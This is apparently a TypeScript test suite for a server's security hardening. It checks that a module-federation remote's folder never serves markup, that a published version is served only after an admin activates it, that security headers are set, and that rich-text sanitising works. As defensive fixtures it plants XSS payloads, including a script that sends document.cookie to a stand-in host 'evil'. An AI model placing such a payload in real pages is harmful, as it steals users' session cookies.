import fs from 'node:fs/promises';
import path from 'node:path';
import { and, eq } from 'drizzle-orm';
import { sysModule } from '../../db/schema/sys-module';
import { sanitizeRichHtml } from '../../routes/pact/rich-html';
import { fakeRepo, put } from '../../routes/public/__tests__/remote-fixture';
import { HOST_PROVIDES, writeBuild } from '../../routes/system/__tests__/module-build-fixture';
import { call, createTestApp, loginAs, type TestApp } from '../../testing/test-app';
import { API_CONTENT_SECURITY_POLICY } from '../security-headers';

/*
 * Security round 3 (issue 32), what the server serves: remote versions (5), public
 * answers (11), stored files (15) and rich text classes (16). The front door's headers
 * (7) are checked against the nginx configuration in nginx-headers.test.ts.
 */
let t: TestApp;
let repo: string;
let admin: string;

const get = (url: string, headers: Record<string, string> = {}) =>
  t.app.inject({ method: 'GET', url, headers });

beforeAll(async () => {
  repo = await fakeRepo({ 'remote-house': ['1.0.0'] }, true);
  await put(
    path.join(repo, 'host', 'dist', 'provided-shared.json'),
    JSON.stringify({ shared: HOST_PROVIDES }),
  );
  const build = path.join(repo, 'remote-house', 'dist', '1.0.0');
  await put(
    path.join(build, 'mf-manifest.json'),
    JSON.stringify({ name: 'remote_house', exposes: [{ path: './pages' }], shared: [] }),
  );
  // What a remote's folder may hold besides its code: none of it may run on our origin.
  await put(path.join(build, 'index.html'), '<!doctype html><script>alert(document.cookie)</script>');
  await put(
    path.join(build, 'x.svg'),
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  );
  await put(path.join(build, 'x.xml'), '<?xml version="1.0"?><x/>');
  await put(path.join(build, 'x.xhtml'), '<html xmlns="http://www.w3.org/1999/xhtml"/>');
  await put(path.join(build, 'page.js'), '\uFEFF  <html><script>alert(1)</script></html>');
  await put(path.join(build, 'logo.0123456789.png'), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a]));
  await put(path.join(build, '123.abcdef0123.js.LICENSE.txt'), '/*! licence */');
  t = await createTestApp({ repoRoot: repo });
  admin = await loginAs(t.app, 'admin', 'admin123');
});

afterAll(async () => {
  await t.close();
  await fs.rm(repo, { recursive: true, force: true });
});

describe('5. remote versions: served once live, never markup', () => {
  /** A version published with a deploy token (in the data folder), not activated. */
  async function publishedVersion(version: string): Promise<number> {
    await writeBuild(path.join(t.config.dataDir, 'remotes', 'remote_house', version), {
      marker: `house ${version}`,
      extra: { 'x.html': '<script>fetch("//evil/"+document.cookie)</script>' },
    });
    const [row] = await t.db
      .insert(sysModule)
      .values({
        name: 'remote_house',
        version,
        entry: `/remotes/remote_house/${version}/remoteEntry.js`,
        prefixes: ['house'],
        source: 'published',
        createBy: 'deploy token (remote_house)',
      })
      .returning({ moduleId: sysModule.moduleId });
    return row!.moduleId;
  }

  it('refuses a published version no admin activated, serves it once activated and after a rollback', async () => {
    const moduleId = await publishedVersion('1.0.1');
    const entry = '/remotes/remote_house/1.0.1/remoteEntry.js';
    expect((await get(entry)).statusCode).toBe(404);
    expect((await get('/remotes/remote_house/1.0.1/123.abcdef0123.js')).statusCode).toBe(404);

    const activated = await call(t.app, 'PUT', `/system/module/activate/${moduleId}`, { token: admin });
    expect(activated.body.code).toBe(200);
    const live = await get(entry);
    expect(live.statusCode).toBe(200);
    expect(live.body).toContain('house 1.0.1');

    // Rolled back: the version switched away from is still served (open tabs, activation again).
    const rollback = await call(t.app, 'PUT', '/system/module/rollback/remote_house', { token: admin });
    expect(rollback.body.code).toBe(200);
    const [row] = await t.db
      .select({ active: sysModule.active })
      .from(sysModule)
      .where(and(eq(sysModule.name, 'remote_house'), eq(sysModule.version, '1.0.1')));
    expect(row?.active).toBe(false);
    expect((await get(entry)).statusCode).toBe(200);
    // Its HTML never, live or not.
    expect((await get('/remotes/remote_house/1.0.1/x.html')).statusCode).toBe(404);
  });

  it('never serves html, svg, xml or xhtml from a remote folder, nor markup under another name', async () => {
    for (const file of ['index.html', 'x.svg', 'x.xml', 'x.xhtml', 'page.js']) {
      const answer = await get(`/remotes/remote_house/1.0.0/${file}`);
      expect({ file, status: answer.statusCode }).toEqual({ file, status: 404 });
      expect(answer.body).not.toContain('<script');
    }
  });

  it('sends nosniff on every file and a sandbox policy on the files that are not code, style, font or image', async () => {
    const code = await get('/remotes/remote_house/1.0.0/remoteEntry.js');
    expect(code.statusCode).toBe(200);
    expect(code.headers['x-content-type-options']).toBe('nosniff');
    const image = await get('/remotes/remote_house/1.0.0/logo.0123456789.png');
    expect(image.statusCode).toBe(200);
    expect(image.headers['x-content-type-options']).toBe('nosniff');
    for (const file of ['mf-manifest.json', '123.abcdef0123.js.LICENSE.txt']) {
      const data = await get(`/remotes/remote_house/1.0.0/${file}`);
      expect(data.statusCode).toBe(200);
      expect(data.headers['x-content-type-options']).toBe('nosniff');
      expect(data.headers['content-security-policy']).toBe(API_CONTENT_SECURITY_POLICY);
    }
  });

  it('sets no cookie of its own (Admin-Token is the front end’s, read by js-cookie)', async () => {
    const login = await call(t.app, 'POST', '/login', {
      body: { identifier: 'admin', password: 'admin123' },
    });
    expect(login.response.headers['set-cookie']).toBeUndefined();
    expect((await get('/index')).headers['set-cookie']).toBeUndefined();
  });
});

describe('16. rich text keeps the editor content classes only, never its UI classes', () => {
  it('drops w-e-full-screen-container and the other UI classes, keeps content classes', () => {
    const html = sanitizeRichHtml(
      [
        '<div class="w-e-full-screen-container">overlay</div>',
        '<div class="w-e-modal w-e-bar w-e-toolbar w-e-drop-panel w-e-text-container w-e-hover-bar">ui</div>',
        '<pre><code class="language-javascript">let a = 1;</code></pre>',
        '<p class="align-center w-e-text">centred</p>',
      ].join(''),
    );
    expect(html).not.toMatch(/w-e-(full-screen|modal|bar|toolbar|drop-panel|text-container|hover-bar)/);
    expect(html).toContain('<code class="language-javascript">');
    expect(html).toContain('<p class="align-center w-e-text">centred</p>');
    expect(html).toContain('overlay');
  });
});
